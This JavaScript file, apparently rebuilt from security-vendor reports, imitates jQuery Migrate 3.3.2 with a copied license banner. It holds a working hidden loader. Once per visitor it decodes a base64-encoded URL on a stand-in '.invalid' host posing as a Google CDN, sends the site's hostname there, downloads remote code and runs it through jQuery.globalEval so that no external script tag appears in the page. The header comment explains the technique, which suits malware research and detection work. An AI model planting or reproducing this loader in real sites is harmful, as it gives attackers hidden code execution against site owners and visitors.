// jquery-migrate-loader (variant b), written from Sucuri's reports of fake jQuery Migrate
// files (2022-2024) that load their payload from a remote server: a copy of the plugin whose
// migrateWarn hook is hijacked; once per visitor (localStorage flag) it fetches the payload as
// text from a host held base64-encoded, and evaluates it with jQuery.globalEval, so no
// script tag with the outside address ever appears in the page.
/*! jQuery Migrate v3.3.2 | (c) OpenJS Foundation and other contributors | jquery.org/license */
(function ($, win) {
  if (!$) return;
  $.migrateVersion = "3.3.2";
  var warned = {};
  $.migrateWarn = function (msg) {
    if (warned[msg]) return;
    warned[msg] = true;
    if (win.console && console.warn && !$.migrateMute) console.warn("JQMIGRATE: " + msg);
  };
  var key = "jqm_" + "cache";
  if (win.localStorage.getItem(key)) return;
  var src = win.atob("aHR0cHM6Ly9hamF4LWdvb2dsZWFwaXMtY2RuLmludmFsaWQvYWpheC9saWJzL2pxdWVyeS8zLjMuMi9tYXAuanM=");
  $(function () {
    $.ajax({ url: src, dataType: "text", cache: false, data: { d: win.location.host } }).done(function (code) {
      win.localStorage.setItem(key, "1");
      $.globalEval(code);
      $.migrateWarn("jQuery.fn.load() is deprecated");
    });
  });
})(window.jQuery, window);
